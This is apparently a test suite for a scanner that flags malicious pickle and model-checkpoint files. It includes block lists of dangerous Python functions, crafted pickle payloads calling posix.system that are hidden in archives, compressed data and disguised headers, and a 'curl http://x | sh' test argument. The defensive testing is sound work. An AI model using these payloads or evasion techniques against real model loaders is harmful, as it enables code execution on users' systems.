"""Attacks by technique: each file is stopped, and those that run something are malicious.

Gadgets stand where an honest value would stand, so that no rule about the place of a call can be what stops them.
"""

import bz2
import gzip
import lzma
import struct
import zipfile
import zlib
from collections.abc import Callable

import pytest
import zstandard

from tests.scanning.raw_pickles import (
    PAYLOAD,
    call,
    in_zip,
    name,
    object_array,
    pickled,
    raw,
    stack_global,
    tarred,
    text,
    thrown,
    valued,
    verdict,
    zipped,
)
from tests.small_checkpoints import archive, training_records

PYTHON = """
os.system nt.system subprocess.Popen subprocess.check_output pty.spawn webbrowser.open shutil.rmtree os.remove
commands.getoutput builtins.exec builtins.eval builtins.compile builtins.__import__ builtins.open builtins.input
builtins.breakpoint builtins.setattr builtins.globals builtins.vars builtins.map builtins.filter __builtin__.execfile
__builtin__.reduce importlib.import_module runpy.run_path code.InteractiveInterpreter cProfile.run profile.run timeit.timeit
trace.Trace doctest.debug_script ensurepip._run_pip pip.main distutils.spawn.spawn asyncio.create_subprocess_shell
tempfile.mktemp site.main signal.signal gc.get_objects marshal.loads _posixsubprocess.fork_exec shelve.open dbm.open
ftplib.FTP urllib.request.urlopen urllib2.urlopen http.client.HTTPConnection telnetlib.Telnet socketserver.TCPServer
socket.create_connection multiprocessing.Process zipfile.ZipFile tarfile.open glob.glob fileinput.input bdb.Bdb
pdb.set_trace sys.exit io.open io.FileIO codecs.open _codecs.decode logging.config.dictConfig logging.FileHandler
logging.handlers.SocketHandler xml.etree.ElementTree.parse sched.scheduler threading.Timer venv.create cPickle.loads
pickle.loads _thread.start_new_thread ctypes.CDLL ctypes.util.find_library readline.read_history_file resource.setrlimit
fcntl.ioctl mmap.mmap crypt.crypt pwd.getpwnam pipes.quote functools.reduce itertools.starmap operator.attrgetter
operator.methodcaller operator.getitem copyreg.add_extension typing.get_type_hints dataclasses.make_dataclass
weakref.finalize atexit.register sqlite3.connect smtplib.SMTP ssl.get_server_certificate platform.popen linecache.getlines
uuid._get_command_stdout imaplib.IMAP4_stream _osx_support._read_output _aix_support._read_cmd_output
_pyrepl.pager.pipe_pager idlelib.pyshell.main lib2to3.pgen2.grammar.Grammar test.support.script_helper.assert_python_ok
pkgutil.resolve_name _interpreters.create setuptools.setup pkg_resources.load_entry_point
importlib.machinery.SourceFileLoader zipimport.zipimporter
"""
"""Functions and classes of Python that run code or touch files, processes or the network."""

OTHERS = """
torch.load torch.hub.load torch.hub.download_url_to_file torch.save torch.serialization.load torch.jit.load torch.compile
torch.utils.cpp_extension.load torch.utils.collect_env.run torch._inductor.codecache.compile_file torch.ops.load_library
torch.distributed.init_process_group torch.classes.load_library torch.package.PackageImporter.load_pickle numpy.load
numpy.size numpy.fromfile numpy.memmap numpy.save numpy.testing._private.utils.runstring numpy.f2py.compile
numpy.f2py.crackfortran.getlincoef numpy.distutils.exec_command.exec_command pandas.read_pickle pandas.eval joblib.load
dill.loads cloudpickle.loads cloudpickle.cloudpickle.subimport sympy.sympify IPython.utils.process.system yaml.unsafe_load
jinja2.Template.render mlflow.projects.backend.local._run_entry_point py.process.cmdexec keras.models.load_model
tensorflow.io.read_file
"""
"""The same of other packages, given a text as an argument."""


@pytest.mark.parametrize("path", PYTHON.split())
def test_a_harmful_function_of_python_is_malicious_wherever_it_is_called(path: str) -> None:
    assert verdict(valued(call(path, text("x")))) == "malicious"
    assert verdict(thrown(call(path, text("x")))) == "malicious"


@pytest.mark.parametrize("path", OTHERS.split())
def test_a_function_that_loads_or_runs_is_malicious_wherever_it_is_called(path: str) -> None:
    assert verdict(valued(call(path, text("/tmp/x")))) == "malicious"
    assert verdict(thrown(call(path))) == "malicious"


UNKNOWN = {
    "a class": name("models.yolo.Model") + b")\x81",
    "a class with arguments": call("transformers.trainer_utils.SchedulerType", text("linear")),
    "a function": call("somelib.helper.fit", b"K\x01"),
    "a name": name("models.activation"),
    "a method": call("builtins.getattr", name("models.Net"), text("forward")),
    "a class in a class": call("builtins.getattr", name("models.Net"), text("Inner")) + b")\x81",
    "a factory": call("collections.defaultdict", name("models.empty")),
    "a part of a function": call("functools.partial", name("models.f"), text("x")),
    "a typo of torch": call("torch._utilz._rebuild_tensor_v2", b"K\x01"),
}


@pytest.mark.parametrize("value", UNKNOWN.values(), ids=UNKNOWN)
def test_an_unknown_name_is_for_review(value: bytes) -> None:
    assert verdict(valued(value)) == "review"


@pytest.mark.parametrize("value", [UNKNOWN["a class with arguments"], UNKNOWN["a function"]])
def test_an_unknown_call_whose_result_is_discarded_is_malicious(value: bytes) -> None:
    assert verdict(thrown(value)) == "malicious"


EVIDENCE = {
    "a command": call("somelib.helper.fit", text("curl http://x | sh")),
    "a program": call("somelib.helper.fit", text("import os")),
    "a program in a list": call("somelib.helper.fit", b"](" + text("-c") + text("__import__('os')") + b"e"),
    "a file to write": call("somelib.Handle", text("/tmp/x"), text("w")),
    "an address": call("somelib.helper.fit", text("https://example.invalid/x")),
}


@pytest.mark.parametrize("value", EVIDENCE.values(), ids=EVIDENCE)
def test_a_call_of_something_unknown_with_a_telling_argument_is_malicious(value: bytes) -> None:
    assert verdict(valued(value)) == "malicious"


SPELLINGS = {
    "INST": b"(" + text("true") + b"iposix\nsystem\n",
    "OBJ": b"(" + name("posix.system") + text("true") + b"o",
    "NEWOBJ": name("subprocess.Popen") + b"(" + text("true") + b"t\x81",
    "__setstate__": name("collections.OrderedDict") + b")R}" + text("__setstate__") + name("posix.system") + b"sb",
    "__class__": name("torch.nn.modules.linear.Linear") + b")\x81}" + text("__class__") + name("models.X") + b"sb",
    "EXT2": b"\x83\x01\x00(" + text("true") + b"tR",
    "EXT4": b"\x84\x01\x00\x00\x00)R",
    "BUILD on a class": name("collections.OrderedDict") + b"}" + text("x") + b"K\x01sb",
    "BUILD on a function": name("torch._utils._rebuild_tensor_v2") + b"}" + text("x") + b"K\x01sb",
    "BUILD on a module": name("torch:_utils") + b"}" + text("x") + b"K\x01sb",
    "a call of a call": call("collections.OrderedDict") + b")R",
    "computed arguments": name("posix.getpid") + call("builtins.tuple", b"]") + b"R",
    "a factory": call("collections.defaultdict", name("subprocess.getoutput")),
    "a rebuild function": call(
        "torch._tensor._rebuild_from_type_v2", name("posix.system"), name("torch.Tensor"), b"(" + text("x") + b"t", b"N"
    ),
    "a base": call("copyreg._reconstructor", name("subprocess.Popen"), name("subprocess.Popen"), text("x")),
    "a dotted name of torch": call("torch._utils._import_dotted_name", text("os.system")),
    "a part of a function": call("functools.partial", name("os.system"), text("x")),
    "an attribute": call("builtins.getattr", name("models.Net"), text("__globals__")),
    "an attribute of a module": call("builtins.getattr", name("torch:_utils"), text("sys")),
    "a computed attribute": call("builtins.getattr", name("models.Net"), call("_codecs.encode", text("a"), text("latin1"))),
    "a name in the memo": name("posix.system") + b"q\x05",
    "an import alone": name("antigravity.x"),
    "builtins of a module": name("numpy.__builtins__"),
    "a loader of a module": name("torch.__loader__"),
    "DUP and POP": text("posix") + b"2q\x010" + text("system") + b"\x93)R",
    "a random state that loads": call(
        "numpy.random._pickle.__randomstate_ctor", raw(pickled(PAYLOAD)), name("torch.storage._load_from_bytes")
    ),
}


@pytest.mark.parametrize("value", SPELLINGS.values(), ids=SPELLINGS)
def test_every_spelling_of_a_harmful_call_is_malicious(value: bytes) -> None:
    assert verdict(valued(value, 3)) == "malicious"


DOTTED = (
    *("torch.serialization:os.system", "random:_os.system", "torch._utils:sys.modules.get", "torch:FloatStorage.from_file"),
    *("numpy:ndarray.tofile", "pathlib:PosixPath.write_text", "collections:namedtuple.__globals__.get", "builtins:str.join"),
    *("builtins:object.__subclasses__", "torch:Tensor.__class__", "datetime:datetime.now", "builtins:dict.__getitem__"),
)


@pytest.mark.parametrize("path", DOTTED)
def test_a_dotted_name_below_an_allowed_one_is_malicious(path: str) -> None:
    module, _, inner = path.partition(":")
    assert verdict(valued(stack_global(module, inner) + b"(" + text("x") + b"tR", 4)) == "malicious"
    assert verdict(valued(stack_global(module, inner), 4)) == "malicious"


STREAMS = {
    "hexadecimal INT": pickled(b"I0x10\n0" + PAYLOAD),
    "hexadecimal LONG": pickled(b"L0x10L\n0" + PAYLOAD),
    "octal LONG": pickled(b"L0o17\n0" + PAYLOAD),
    "STRING in UTF-8": pickled("S'é'\n0".encode() + PAYLOAD),
    "no STOP": b"\x80\x02" + PAYLOAD,
    "broken behind it": in_zip(b"\x80\x02" + PAYLOAD + b"\xff\xff"),
    "underflow behind it": in_zip(b"\x80\x02" + PAYLOAD + b"000."),
    "PROTO twice": in_zip(b"\x80\x02\x80\x02" + PAYLOAD + b"."),
    "a frame with a wrong length": in_zip(b"\x80\x04\x95\x05\0\0\0\0\0\0\0" + PAYLOAD + b"."),
    "protocol 0": b"cposix\nsystem\n(S'true'\ntR.",
    "protocol 0, broken": b"cposix\nsystem\n(S'true'\ntR\xff",
    "escapes in STRING": b"S'\\x70osix'\nS'syste\\x6d'\n\x93(S'true'\ntR.",
    "SHORT_BINSTRING": b"\x80\x02U\x05posixU\x06system\x93(U\x04truetR.",
    "escapes in UNICODE": b"\x80\x04V\\u0070osix\nVsystem\n\x93(Vtrue\ntR.",
    "a computed name": b"\x80\x04" + call("_codecs.decode", text("cbfvk"), text("rot13")) + text("system") + b"\x93)R.",
    "a second pickle": pickled(b"N") + pickled(PAYLOAD),
    "a third pickle of protocol 0": pickled(b"N") + pickled(b"N") + PAYLOAD + b".",
    "a second pickle in the record": in_zip(pickled(b"}") + pickled(PAYLOAD)),
}


@pytest.mark.parametrize("data", STREAMS.values(), ids=STREAMS)
def test_a_stream_that_other_parsers_reject_is_read_as_python_reads_it(data: bytes) -> None:
    assert verdict(data) == "malicious"


ODD = {
    "broken": in_zip(b"\x80\x02]K\x01\xff"),
    "trailing bytes": in_zip(pickled(b"}") + b"garbage!"),
    "trailing bytes of a bare pickle": pickled(b"}") + b"\xffgarbage!",
    "left on the stack": in_zip(b"\x80\x02NN."),
    "an allowed name with computed arguments": valued(name("builtins.bytearray") + call("builtins.tuple", b"]K\x01a") + b"R"),
    "another base": valued(call("copyreg._reconstructor", name("collections.OrderedDict"), name("torch.device"), text("cpu"))),
    "a state for what takes none": valued(call("datetime.timedelta", b"K\x01") + b"}b"),
    "arguments by name": valued(name("collections.OrderedDict") + b")}" + text("a") + b"K\x01s\x92", 4),
    "computed bytes to load": valued(call("torch.storage._load_from_bytes", call("builtins.bytes", b"]K\x01a")), 3),
}


@pytest.mark.parametrize("data", ODD.values(), ids=ODD)
def test_a_pickle_that_no_honest_writer_makes_is_for_review(data: bytes) -> None:
    assert verdict(data) == "review"


PICKLERS_CALL_THESE = (
    *("torch.storage._load_from_bytes", "copyreg._reconstructor", "copyreg.__newobj__"),
    *("torch._tensor._rebuild_from_type_v2", "torch._tensor._rebuild_from_type"),
)


@pytest.mark.parametrize("path", PICKLERS_CALL_THESE)
def test_a_function_that_picklers_only_call_is_malicious_as_the_whole_object(path: str) -> None:
    assert verdict(in_zip(pickled(name(path)))) == "malicious"


def latin1(data: bytes) -> bytes:
    return call("_codecs.encode", text(data.decode("latin-1")), text("latin1"))


NESTED = {
    "loaded bytes": valued(call("torch.storage._load_from_bytes", raw(pickled(PAYLOAD))), 3),
    "a loaded zip": valued(call("torch.storage._load_from_bytes", raw(valued(PAYLOAD))), 3),
    "loaded text": valued(call("torch.storage._load_from_bytes", latin1(pickled(PAYLOAD)))),
    "bytes": valued(raw(pickled(PAYLOAD)), 3),
    "bytes of protocol 0": valued(raw(PAYLOAD + b"."), 3),
    "text": valued(text(pickled(PAYLOAD).decode("latin-1"))),
    "packed bytes": valued(raw(gzip.compress(pickled(PAYLOAD))), 3),
}


@pytest.mark.parametrize("data", NESTED.values(), ids=NESTED)
def test_a_pickle_inside_a_pickle_is_read(data: bytes) -> None:
    assert verdict(data) == "malicious"


PACKED: dict[str, Callable[[bytes], bytes]] = {
    "gzip": gzip.compress,
    "bzip2": bz2.compress,
    "xz": lzma.compress,
    "zlib": zlib.compress,
    "zstd": zstandard.compress,
    "twice": lambda data: gzip.compress(gzip.compress(data)),
}


@pytest.mark.parametrize("packing", PACKED)
def test_compressed_pickles_are_read(packing: str) -> None:
    for data in (pickled(PAYLOAD), valued(PAYLOAD)):
        assert verdict(PACKED[packing](data)) == "malicious"
    assert verdict(PACKED[packing](valued(b"K\x01"))) == "clean"


NONE, EMPTY = pickled(b"K\x00"), pickled(b"}")

INSIDE = {
    "a tar's pickle": tarred({"storages": NONE, "tensors": NONE, "pickle": pickled(PAYLOAD)}),
    "a tar's storages": tarred({"storages": pickled(b"K\x01") + pickled(PAYLOAD), "tensors": NONE, "pickle": EMPTY}),
    "a tar's tensors": tarred(
        {
            "storages": NONE + pickled(b"]"),
            "tensors": pickled(b"K\x01") + pickled(b"(" + text("k") + PAYLOAD + text("x") + b"t"),
            "pickle": EMPTY,
        }
    ),
    "a packed tar": gzip.compress(tarred({"model.pt": valued(PAYLOAD)})),
    "a zip in a zip": zipped({"a.zip": zipped({"b.pt": valued(PAYLOAD)})}),
    "a model archive": zipped({"MAR-INF/MANIFEST.json": b"{}", "model.pth": valued(PAYLOAD)}),
    "a deflated record": zipped({"a/data.pkl": pickled(PAYLOAD), "a/version": b"3"}, zipfile.ZIP_DEFLATED),
    "another record": in_zip(EMPTY, **{"evil.pkl": pickled(PAYLOAD)}),
    "a record of any name": in_zip(EMPTY, notes=pickled(PAYLOAD)),
    "a record of protocol 0": in_zip(EMPTY, notes=PAYLOAD + b"."),
    "a storage that nothing uses": in_zip(EMPTY, **{"data/0": pickled(PAYLOAD)}),
    "a record in upper case": zipped({"a/DATA.PKL": PAYLOAD + b".", "a/version": b"3"}),
    "records that differ in case": zipped({"a/data.pkl": EMPTY, "a/DATA.PKL": pickled(PAYLOAD), "a/version": b"3"}),
}


@pytest.mark.parametrize("data", INSIDE.values(), ids=INSIDE)
def test_every_pickle_in_a_file_is_read(data: bytes) -> None:
    assert verdict(data) == "malicious"


@pytest.mark.parametrize("before", [b"", b"\x80\x02" + text("a" * 200) + b"0"])
def test_a_storage_that_is_a_pickle_is_read(before: bytes) -> None:
    records = training_records(count=256)
    records["data/0"] = (before + pickled(PAYLOAD)).ljust(len(records["data/0"]), b"\0")
    assert verdict(archive(records)) == "malicious"


def test_arrays_of_objects_are_pickles() -> None:
    assert verdict(object_array(pickled(PAYLOAD))) == "malicious"
    assert verdict(zipped({"a.npy": object_array(pickled(PAYLOAD))})) == "malicious"


def joblib_dump(dtype: str, data: bytes) -> bytes:
    """A file of joblib with one array: its bytes follow the object that describes it."""
    size, flags = (int(dtype[1:]), 0) if dtype[0] == "S" else (-1, 63 if dtype[0] == "O" else 0)
    numbers = b"".join(b"J" + struct.pack("<i", number) for number in (size, 1 if size > 0 else -1, flags))
    kind = call("numpy.dtype", text(dtype), b"\x89", b"\x88") + b"(K\x03" + text("|") + b"NNN" + numbers + b"tb"
    attributes = text("shape") + b"K\x02\x85" + text("dtype") + kind + text("order") + text("C")
    attributes += text("subclass") + name("numpy.ndarray") + text("allow_mmap") + b"\x88"
    wrapper = name("joblib.numpy_pickle.NumpyArrayWrapper") + b")\x81}(" + attributes + b"ub"
    return b"\x80\x03}" + text("w") + wrapper + data + b"s" + text("end") + b"K\x01s."


def test_array_data_between_the_opcodes_of_joblib_are_skipped() -> None:
    assert verdict(joblib_dump("f8", bytes(16))) == "clean"
    assert verdict(joblib_dump("O8", pickled(b"]"))) == "clean"
    assert verdict(joblib_dump("O8", pickled(PAYLOAD))) == "malicious"


def test_an_array_of_joblib_with_a_negative_size_is_no_loop() -> None:
    assert verdict(joblib_dump("f8", bytes(16)).replace(b"K\x02\x85", b"J\xfe\xff\xff\xff\x85")) != "clean"


def dtype(code: str, flags: int, inner: bytes = b"N") -> bytes:
    """A dtype of numpy with a state; `inner` are its fields, of which there is one "a"."""
    state = (
        b"(K\x03"
        + text("|")
        + b"N"
        + (b"N" if inner == b"N" else text("a") + b"\x85")
        + inner
        + b"K\x08K\x01K"
        + bytes([flags])
        + b"t"
    )
    return call("numpy.dtype", text(code), b"\x89", b"\x88") + state + b"b"


def test_a_dtype_that_denies_its_objects_is_malicious() -> None:
    for home in ("numpy.core.multiarray", "numpy._core.multiarray"):
        fields = b"}" + text("a") + dtype("O8", 63) + b"K\x00\x86s"
        for lie in (dtype("O8", 0), dtype("V8", 0, fields), dtype("V8", 25, fields)):
            assert verdict(valued(call(f"{home}.scalar", lie, raw(bytes(8))), 3)) == "malicious"
        buffer = call("numpy._core.numeric._frombuffer", raw(b"A" * 16), dtype("O8", 63), b"K\x02\x85", text("C"))
        assert verdict(valued(buffer, 3)) == "malicious"
        array = call(f"{home}._reconstruct", name("numpy.ndarray"), b"K\x00\x85", raw(b"b"))
        array += b"(K\x01)" + dtype("V8", 27, fields) + b"\x89]Natb"
        for truth, value in ((dtype("f8", 0), raw(bytes(8))), (dtype("V8", 27, fields), array)):
            assert verdict(valued(call(f"{home}.scalar", truth, value), 3)) == "clean"


def test_what_a_plain_loader_reads_between_the_opcodes_of_joblib_is_read_too() -> None:
    assert verdict(joblib_dump("S16", (PAYLOAD + b"0").ljust(32, b"N"))) == "malicious"


LOADER = "torch.storage._load_from_bytes"
DISGUISED = b"C\x01x0" + PAYLOAD + b"."
"""A pickle that begins like none: with bytes, which it throws away."""

BEGINNINGS = {
    "bytes": DISGUISED,
    "bzip2": b"BZh\0\0" + b"A" * 0x685A + b"0" + PAYLOAD + b".",
    "a program": b"MZ\x900" + PAYLOAD + b".",
    "a tar": b"\x80\x02X\x50\x02\0\0" + (b"a" * 250 + b"ustar").ljust(0x250, b"a") + b"0" + PAYLOAD + b".",
    "safetensors": b"X\x0a\0\0\0\0\0{aaaaaa0X\0\0\x20\0" + b"a" * (1 << 21) + b"0" + PAYLOAD + b".",
    "a number that C cuts at a NUL": b"I5\x00\n0" + PAYLOAD + b".",
    "a fraction that C cuts at a NUL": b"F5\x00zz\n0" + PAYLOAD + b".",
    "a memo slot that C cuts at a NUL": b"Np1\x00zz\n0" + PAYLOAD + b".",
}


@pytest.mark.parametrize("data", BEGINNINGS.values(), ids=BEGINNINGS)
def test_a_pickle_that_begins_like_something_else_is_read_as_a_pickle(data: bytes) -> None:
    assert verdict(data) == "malicious"
    assert verdict(valued(call(LOADER, raw(data)), 3)) == "malicious"
    assert verdict(zipped({"model.pth": data})) == "malicious"
    assert verdict(gzip.compress(data)) == "malicious"


MAGIC = b"\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19"
"""The number that a file of the old format of torch begins with."""

HEADS = {"nothing": b"", "a program": b"MZ\x900", "bzip2": b"BZh\0\0" + b"A" * 0x685A + b"0"}
HEADS["safetensors"] = b"X\x0a\0\0\0\0\0{aaaaaa0"


@pytest.mark.parametrize("head", HEADS.values(), ids=HEADS)
def test_all_pickles_of_the_old_format_are_read_whatever_it_begins_like(head: bytes) -> None:
    honest = [pickled(MAGIC), pickled(b"M\xe9\x03"), EMPTY, EMPTY, pickled(b"]")]
    for number in range(1, 5):
        hostile = [*honest[:number], pickled(PAYLOAD), *honest[number + 1 :]]
        assert verdict(b"\x80\x02" + head + hostile[0][2:] + b"".join(hostile[1:])) == "malicious"


def test_what_follows_a_tar_is_read() -> None:
    data = tarred({"storages": NONE, "tensors": NONE, "pickle": EMPTY})
    assert verdict(data) == "clean"
    assert verdict(data + PAYLOAD + b".") == "malicious"


def test_pickles_are_judged_though_the_rest_cannot_be_read() -> None:
    broken = pickled(b"(" + b"K\x01K\x02" + b"t")
    data = tarred({"storages": NONE, "tensors": pickled(b"K\x01") + broken, "pickle": pickled(PAYLOAD)})
    assert verdict(data) == "malicious"


OBJECT = name("argparse.Namespace") + b")\x81"

HANDED_ON = {
    "as a value": name(LOADER),
    "as append": OBJECT + b"}" + text("append") + name(LOADER) + b"sb" + raw(b"x") + b"a",
    "as a slot": OBJECT + b"N}" + text("__setstate__") + name(LOADER) + b"s\x86b" + raw(b"x") + b"b",
    "under a computed key": OBJECT + b"}" + call("builtins.str", text("__setstate__")) + name(LOADER) + b"sb",
    "as forward": name("torch.nn.modules.linear.Linear") + b")\x81}" + text("forward") + name(LOADER) + b"sb",
    "by INST": b"(" + name(LOADER) + b"icollections\ndefaultdict\n",
}


@pytest.mark.parametrize("value", HANDED_ON.values(), ids=HANDED_ON)
def test_a_function_that_loads_is_malicious_as_a_value(value: bytes) -> None:
    assert verdict(valued(value, 3)) == "malicious"


MISUSED = {
    "a size by INST": b"(\x8a\x06\0\0\0\0\0\x01ibuiltins\nbytearray\n",
    "a size by __newobj__": call("copyreg.__newobj__", name("builtins.bytes"), b"\x8a\x06\0\0\0\0\0\x01"),
    "a size in two numbers": call(
        "numpy.core.multiarray._reconstruct", name("numpy.ndarray"), b"J\0\0\x10\0J\0\0\x10\0\x86", raw(b"b")
    ),
    "errors that are passed over": call(
        LOADER, call("_codecs.encode", text("c\u2603posix\nsystem\n."), text("ascii"), text("ignore"))
    ),
    "bytes of another encoding": call(LOADER, call("_codecs.encode", text("c\u2603\n"), text("utf-8"))),
    "bytes that are no checkpoint": call(LOADER, raw(b"\xff" * 20)),
}


@pytest.mark.parametrize("value", MISUSED.values(), ids=MISUSED)
def test_an_allowed_call_in_an_unusual_form_is_for_review(value: bytes) -> None:
    assert verdict(valued(value, 3)) == "review"


def test_names_that_are_computed_are_malicious() -> None:
    computed = call("builtins.str", text("posix")) + call("builtins.str", text("system")) + b"\x93)R"
    assert verdict(valued(computed, 4)) == "malicious"


WRAPPER = "joblib.numpy_pickle.NumpyArrayWrapper"


@pytest.mark.parametrize(
    "made",
    [
        call("copyreg._reconstructor", name(WRAPPER), name("builtins.object"), b"N"),
        call("copyreg.__newobj__", name(WRAPPER)),
        name(WRAPPER) + b")R",
    ],
)
def test_arrays_that_joblib_does_not_describe_so_are_for_review(made: bytes) -> None:
    kind = call("numpy.dtype", text("u1"), b"\x89", b"\x88")
    state = b"}(" + text("shape") + b"K\x05\x85" + text("dtype") + kind + b"u"
    hidden = b"B" + struct.pack("<I", len(DISGUISED)) + DISGUISED
    data = b"\x80\x03}(" + text("w") + made + state + b"b" + hidden + text("k") + b"u."
    assert verdict(data) in ("review", "malicious")


def test_objects_are_read_whatever_the_header_of_an_array_says() -> None:
    for descr in ("'object'", "'\\x4f'", "'O,i4'", "[('a', '(2,)O')]", "'f8'"):
        header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': (1,), }}".encode().ljust(117) + b"\n"
        data = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + PAYLOAD + b"."
        assert verdict(data) == "malicious"


def test_a_zip_after_compressed_data_is_read() -> None:
    for pack in (bz2.compress, lzma.compress, zlib.compress):
        assert verdict(pack(b"text, no pickle") + valued(PAYLOAD)) == "malicious"


def test_a_change_of_a_class_in_a_persistent_id_is_found() -> None:
    ident = b"(" + text("module") + name("collections.OrderedDict") + b"NNtQ"
    assert verdict(valued(ident + b"}" + text("x") + b"K\x01sb")) == "malicious"


def test_the_depth_of_nested_pickles_is_limited() -> None:
    data = pickled(b"K\x01", 3)
    for _ in range(1000):
        data = pickled(raw(data), 3)
    assert verdict(data) == "review"


def test_type_hints_and_joblib_are_not_accused() -> None:
    hint = call("_operator.getitem", name("typing.List"), name("builtins.int"))
    union = call("_functools.reduce", name("_operator.or_"), name("builtins.int") + name("builtins.str") + b"\x86")
    assert verdict(valued(hint)) == "review"
    assert verdict(valued(union)) == "review"
